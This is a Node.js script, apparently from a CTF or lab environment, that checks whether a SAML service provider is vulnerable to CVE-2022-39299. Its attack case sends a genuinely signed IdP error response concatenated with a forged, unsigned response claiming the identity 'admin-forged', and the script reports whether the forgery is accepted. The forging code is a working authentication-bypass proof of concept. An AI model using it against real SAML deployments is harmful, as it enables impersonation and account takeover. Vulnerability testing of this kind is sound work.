// node confirm.js (env MNCTF_LAB_INSTALL, RELEASE_DIR)
// CVE-2022-39299 (GHSA-m974-647v-whv7): first document root = an IdP-signed *error* Response
// (no assertion, Reference #its-ID), second root = a forged unsigned Response with an assertion.
'use strict';
const path = require('path');
const g = require('./genlib');
const { makeSp } = require(path.join(process.env.RELEASE_DIR, 'sp.js'));
const port = 27005;
const idp = g.mkKeys('confirm-idp');
const idpEntity = 'http://127.0.0.1:18999/idp';
const idpMetadata = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${idpEntity}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${idp.certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:18999/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
const spKeys = g.mkKeys('confirm-sp');
const sp = makeSp({ port, idpMetadata, spKey: spKeys.key, spCert: spKeys.certPem, authnClass: 'urn:mnctf:ac:classes:jpki-user-authentication' });
const base = `http://127.0.0.1:${port}`, acs = `${base}/acs`, audience = `${base}/metadata`;
(async () => {
  const res = {};
  for (const mode of ['control', 'attack']) {
    const irt = g.requestIdFromUrl(await sp.authorizeUrl());
    let msg;
    if (mode === 'control') {
      const rId = g.rid();
      msg = g.sign(g.responseXml({ rId, idpEntity, acs, irt, inner: g.assertionXml({ aId: g.rid(), idpEntity, nameID: 'alice', acs, audience, irt }) }), rId, { key: idp.key });
    } else {
      // an error Response the IdP signed at some point (no InResponseTo, status Responder/AuthnFailed)
      const eId = g.rid();
      const signedError = g.sign(g.responseXml({ rId: eId, idpEntity, acs, status: 'urn:oasis:names:tc:SAML:2.0:status:Responder' }), eId, { key: idp.key });
      const forged = g.responseXml({ rId: g.rid(), idpEntity, acs, irt, inner: g.assertionXml({ aId: g.rid(), idpEntity, nameID: 'admin-forged', acs, audience, irt }) });
      msg = signedError + forged;
    }
    try {
      const { profile } = await sp.validate(Buffer.from(msg).toString('base64'));
      res[mode] = profile && profile.nameID; console.log(`  ${mode}: ACCEPTED, NameID=${res[mode]}`);
    } catch (e) { res[mode] = null; console.log(`  ${mode}: refused: ${e.message.slice(0, 140)}`); }
  }
  if (res.control !== 'alice') { console.log('  control refused: the result says nothing'); process.exit(2); }
  process.exit(res.attack === 'admin-forged' ? 0 : 1);
})();
